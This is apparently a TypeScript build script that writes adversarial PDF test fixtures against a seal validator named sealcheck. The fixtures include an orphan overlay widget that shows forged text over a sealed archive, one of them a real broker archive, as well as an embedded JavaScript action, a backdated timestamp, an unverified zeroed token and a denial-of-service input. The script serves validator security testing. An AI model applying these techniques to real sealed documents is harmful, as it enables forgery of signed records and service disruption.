// Attack round: incremental updates on the samples' sealed archive that sealcheck calls TOTAL-PASSED while
// poppler/qpdf show something other than the sealed revision. Deterministic: fixed times, fixed serials.
// Run: npx tsx scripts/attack-round/build.ts   (writes test/fixtures/attack-round/*.pdf)
import { readFileSync, writeFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { createTimestampToken } from "../generator/cms.js";
import { createPrivateKey } from "node:crypto";
import { pemToDer } from "../generator/der.js";
import { issued } from "../generator/pki.js";
import { addRevision, BYTE_RANGE_PLACEHOLDER, type ObjSpec } from "../../test/pdf/helpers.js";

const OUT = "test/fixtures/attack-round";
const SAMPLE = new Uint8Array(readFileSync("samples/valid/archive.pdf"));
const TRAILER = "/Root 2 0 R /Info 3 0 R";
const TS_AT = new Date("2025-12-09T10:00:00Z");
// Only the TSA's key is used (the test PKI's TSA); never the seal key.
const tsa = issued("tsa", pemToDer(readFileSync("samples/pki/tsa.pem", "utf8")), createPrivateKey(readFileSync("samples/pki/tsa.key.pem", "utf8")));

const latin1 = (s: string) => new Uint8Array(Buffer.from(s, "latin1"));
const text = (b: Uint8Array) => Buffer.from(b).toString("latin1");

/** The samples' page 1 with /Annots. */
const page1 = (annots: string) =>
  `<< /Type /Page /Resources << /Font << /Helvetica-7098480789 4 0 R >> /XObject << >> /ExtGState << >> >> /MediaBox [0 0 595 842] /Annots [${annots}] /Contents [5 0 R] /Parent 1 0 R >>`;

/** A document timestamp's signature dictionary (placeholders filled by `stamp`). */
const docTs = (num: number, extra = ""): ObjSpec => ({
  num,
  body: `<< /Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161 ${BYTE_RANGE_PLACEHOLDER} /Contents <${"00".repeat(6000)}>${extra} >>`,
});

/** A form XObject showing one line of text over a white box. */
const overlay = (num: number, line: string): ObjSpec => ({
  num,
  body: "<< /Type /XObject /Subtype /Form /BBox [0 0 340 40] /Resources << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Filter /FlateDecode >>",
  stream: deflateSync(Buffer.from(`1 g 0 0 340 40 re f 0 g BT /Helv 14 Tf 6 14 Td (${line}) Tj ET`)),
});

/** Fills the last byte-range placeholder and puts a real RFC 3161 token over the covered bytes into /Contents. */
function stamp(bytes: Uint8Array, genTime = TS_AT): Uint8Array {
  const s = text(bytes);
  const at = s.lastIndexOf(BYTE_RANGE_PLACEHOLDER);
  const start = s.indexOf("<", s.indexOf("/Contents", at));
  const end = s.indexOf(">", start) + 1;
  const pad = (n: number) => String(n).padStart(10, "0");
  const filled = `/ByteRange [0 ${pad(start)} ${pad(end)} ${pad(bytes.length - end)}]`;
  const b = latin1(s.slice(0, at) + filled + s.slice(at + filled.length));
  const data = Buffer.concat([b.subarray(0, start), b.subarray(end)]);
  const token = createTimestampToken({ tsa, data: new Uint8Array(data), genTime, serial: 20251209 });
  const hex = Buffer.from(token)
    .toString("hex")
    .padEnd(end - start - 2, "0");
  if (hex.length !== end - start - 2) throw new Error("token does not fit");
  b.set(latin1(hex), start + 1);
  return b;
}

const update = (base: Uint8Array, objects: ObjSpec[]) => addRevision(base, { objects, xref: "table", trailer: TRAILER });

const fixtures: Record<string, Uint8Array> = {};

// Baseline: a genuine document timestamp (merged invisible widget 40, signature 41): must be TOTAL-PASSED.
fixtures["baseline-doc-timestamp"] = stamp(
  update(SAMPLE, [
    { num: 6, body: page1("23 0 R 40 0 R") },
    { num: 25, body: "<< /Fields [23 0 R 40 0 R] /SigFlags 3 >>" },
    { num: 40, body: "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V 41 0 R /F 132 /Rect [0 0 0 0] /P 6 0 R >>" },
    docTs(41),
  ]),
);

// 1. Orphan widget: widget 42 sits in page 1's /Annots with /Parent 40 (a valid document timestamp field),
//    but 40 does not list it in /Kids. Only the parent is validated; 42 itself is visible with an overlay.
fixtures["orphan-kid-visible-widget"] = stamp(
  update(SAMPLE, [
    { num: 6, body: page1("23 0 R 40 0 R 42 0 R") },
    { num: 25, body: "<< /Fields [23 0 R 40 0 R] /SigFlags 3 >>" },
    { num: 40, body: "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V 41 0 R /F 132 /Rect [0 0 0 0] /P 6 0 R >>" },
    docTs(41),
    { num: 42, body: "<< /Type /Annot /Subtype /Widget /Parent 40 0 R /F 4 /Rect [60 600 400 640] /AP << /N 43 0 R >> >>" },
    overlay(43, "Husleje: 1 kr. pr. maaned"),
  ]),
);

// 2. Same class, an action instead of a picture: the orphan widget (hidden or not, its keys are never read)
//    carries a JavaScript action that poppler reports (pdfinfo: "JavaScript: yes", pdfinfo -js prints it).
fixtures["orphan-kid-javascript"] = stamp(
  update(SAMPLE, [
    { num: 6, body: page1("23 0 R 40 0 R 42 0 R") },
    { num: 25, body: "<< /Fields [23 0 R 40 0 R] /SigFlags 3 >>" },
    { num: 40, body: "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V 41 0 R /F 132 /Rect [0 0 0 0] /P 6 0 R >>" },
    docTs(41),
    {
      num: 42,
      body: "<< /Type /Annot /Subtype /Widget /Parent 40 0 R /F 4 /Rect [0 0 595 842] /A << /S /JavaScript /JS (app.alert\\('Husleje: 1 kr.'\\);) >> /AA << /PO << /S /JavaScript /JS (this.getField\\('x'\\);) >> >> >>",
    },
  ]),
);

// 3. The document timestamp's /M is never compared with the token's genTime: pdfsig shows the signature dictionary's
//    /M as its "Signing Time" (here 2020), while the token says 2025-12-09.
fixtures["doc-timestamp-m-backdated"] = stamp(
  update(SAMPLE, [
    { num: 6, body: page1("23 0 R 40 0 R") },
    { num: 25, body: "<< /Fields [23 0 R 40 0 R] /SigFlags 3 >>" },
    { num: 40, body: "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V 41 0 R /F 132 /Rect [0 0 0 0] /P 6 0 R >>" },
    docTs(41, " /M (D:20200101000000Z)"),
  ]),
);

// 4. A document timestamp's merged field/widget written as a direct dictionary in page 1's /Annots (not in
//    /Fields). The modification rules accept it (a "new" widget of a document timestamp), but signature
//    discovery only follows references in /Annots, so its token is never verified: here /Contents is zeros.
fixtures["direct-widget-unverified-timestamp"] = (() => {
  const b = update(SAMPLE, [
    {
      num: 6,
      body: page1("23 0 R << /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V 41 0 R /F 132 /Rect [0 0 0 0] >>"),
    },
    docTs(41),
  ]);
  // byte range filled, token left as zeros
  const s = text(b);
  const at = s.lastIndexOf(BYTE_RANGE_PLACEHOLDER);
  const start = s.indexOf("<", s.indexOf("/Contents", at));
  const end = s.indexOf(">", start) + 1;
  const pad = (n: number) => String(n).padStart(10, "0");
  const filled = `/ByteRange [0 ${pad(start)} ${pad(end)} ${pad(b.length - end)}]`;
  return latin1(s.slice(0, at) + filled + s.slice(at + filled.length));
})();

// 5. Finding 1 on the broker's real archive: page 1 (object 4) gets the orphan overlay widget 42.
//    Verified with --trust of the broker and of the test TSA (the timestamp's TSA), --at 2025-12-08T09:40:00Z.
{
  const REAL = new Uint8Array(readFileSync("test/fixtures/real/broker-example/archive.pdf"));
  const realPage1 = (annots: string) =>
    `<< /Annots [${annots}] /Contents 5 0 R /MediaBox [0 0 595.2756 841.8898] /Parent 2 0 R /Resources << /Font 6 0 R /ProcSet [/PDF /Text /ImageB /ImageC /ImageI] >> /Rotate 0 /Trans << >> /Type /Page >>`;
  fixtures["real-orphan-kid-visible-widget"] = stamp(
    addRevision(REAL, {
      objects: [
        { num: 4, body: realPage1("33 0 R 40 0 R 42 0 R") },
        { num: 31, body: "<< /Fields [33 0 R 40 0 R] /SigFlags 3 >>" },
        { num: 40, body: "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V 41 0 R /F 132 /Rect [0 0 0 0] /P 4 0 R >>" },
        docTs(41),
        { num: 42, body: "<< /Type /Annot /Subtype /Widget /Parent 40 0 R /F 4 /Rect [60 700 400 740] /AP << /N 43 0 R >> >>" },
        overlay(43, "Demo Agreement: VOID, see annex"),
      ],
      xref: "table",
      trailer: "/Root 1 0 R /Info 3 0 R",
    }),
    new Date("2025-12-08T09:35:00Z"),
  );
}

// 6. Finding 3 (time): one genuine document timestamp field with K invisible kid widgets, each also in page 1's
//    /Annots. Every /Annots entry re-validates the whole field (notDocTimestampField walks all K kids), outside
//    the comparer's step budget: super-linear work (K=1000: 1.8 s, 2000: 15 s, 4000: 59 s of
//    seal-modifications alone, in-process). Legitimate in shape, so it ends TOTAL-PASSED, far beyond 10 s.
{
  const K = 3000;
  const kids = Array.from({ length: K }, (_, i) => `${100 + i} 0 R`).join(" ");
  fixtures["dos-timestamp-kids"] = stamp(
    update(SAMPLE, [
      { num: 6, body: page1(`23 0 R ${kids}`) },
      { num: 25, body: "<< /Fields [23 0 R 40 0 R] /SigFlags 3 >>" },
      { num: 40, body: `<< /FT /Sig /T (Signature2) /V 41 0 R /Kids [${kids}] >>` },
      docTs(41),
      ...Array.from({ length: K }, (_, i) => ({ num: 100 + i, body: "<< /Type /Annot /Subtype /Widget /Parent 40 0 R /F 2 /Rect [0 0 0 0] >>" })),
    ]),
  );
}

for (const [name, bytes] of Object.entries(fixtures)) writeFileSync(`${OUT}/${name}.pdf`, bytes);
console.log(Object.keys(fixtures).join("\n"));
